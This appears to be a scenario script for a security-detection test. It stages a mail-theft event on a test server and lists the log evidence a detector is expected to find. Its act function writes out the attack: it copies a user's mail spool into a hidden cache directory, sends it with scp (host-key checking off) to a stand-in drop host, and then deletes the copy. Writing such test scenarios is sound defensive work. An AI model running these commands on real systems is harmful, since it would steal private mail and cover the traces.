# The mbox of the user is copied into a hidden directory and taken away with scp.
title="Mail spool copied to a hidden directory and sent away with scp"
what="Someone with the clerk's login copies /var/mail/clerk into ~/.cache/.ix and, a little later and in a second login without a terminal, copies that file with scp to
203.0.113.66. The copy keeps its dull name; the spool itself is only read once."
host=mx1.example.org user=clerk daemons="cron sshd" store=mbox audit_format=RAW

setup() { outside_sshd; }
act() {
  small_talk 4
  mail_in --from personnel@example.net --to clerk@example.org --subject "Contract draft" --text "The draft is confidential.\n"
  wait_mail clerk 1
  ssh_as clerk <<'L'
mkdir -p .cache/.ix
cp /var/mail/clerk .cache/.ix/idx.db
ls -la .cache
L
  small_talk 2
  sleep 3
  ssh_run clerk 'scp -q -B -o StrictHostKeyChecking=no -i ~/.ssh/id_out -P 2222 ~/.cache/.ix/idx.db root@drop.example.net:in.db; rm ~/.cache/.ix/idx.db'
}
truth() {
  mail_step deliver 'to=<clerk@example.org>.*status=sent' 'mail lies in the spool of clerk'
  exec_step copy 'cp /var/mail/clerk .cache/.ix/idx.db' 'the spool is copied'
  exec_step transfer 'scp -q -B' 'the copy is sent away'
  net_step connect 'ssh 203.0.113.66:2222' 'to an address outside'
}
